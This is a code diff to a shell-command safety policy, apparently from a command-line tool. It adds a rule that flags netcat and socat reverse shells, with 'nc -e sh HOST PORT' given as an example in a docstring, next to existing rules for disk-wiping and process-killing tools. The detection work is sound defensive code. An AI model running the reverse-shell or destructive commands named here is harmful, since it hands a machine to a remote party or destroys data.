@@ -3,7 +3,7 @@
 from collections.abc import Callable
 
 from paicli.policy.shell.calls import Call
-from paicli.policy.shell.verdicts import PRIVILEGE, Danger, refused
+from paicli.policy.shell.verdicts import FETCHED_CODE, PRIVILEGE, Danger, refused
 
 _DISK_TOOLS = frozenset(
     {"mke2fs", "mkswap", "wipefs", "blkdiscard", "fdisk", "sfdisk", "cfdisk", "gdisk", "sgdisk", "parted", "badblocks",
@@ -132,7 +132,18 @@ def _everything(call: Call) -> Danger | None:
     return refused("kill_all")
 
 
+def _shell_over_the_net(call: Call) -> Danger | None:
+    """`nc -e sh HOST PORT`, `socat TCP:… EXEC:sh`: whoever is at the other end types the commands."""
+    if call.name == "socat":
+        kinds = {word.text.split(":", 1)[0].upper() for word in call.operands()}
+        runs = any(kind in {"EXEC", "SYSTEM", "SHELL"} for kind in kinds)
+        is_net = any(kind.startswith(("TCP", "UDP", "OPENSSL", "SSL", "SCTP", "SOCKS", "PROXY")) for kind in kinds)
+        return FETCHED_CODE if runs and is_net else None
+    return FETCHED_CODE if call.has_option("e", "exec", "sh-exec", "lua-exec") else None
+
+
 _RULES: dict[str, Callable[[Call], Danger | None]] = {
+    **dict.fromkeys(("nc", "ncat", "netcat", "socat"), _shell_over_the_net),
     **dict.fromkeys(_DISK_TOOLS, _disk_tool),
     **dict.fromkeys(("zpool", "zfs", "nvme"), _pool),
     **dict.fromkeys(("pkill", "killall", "skill"), _pkill),
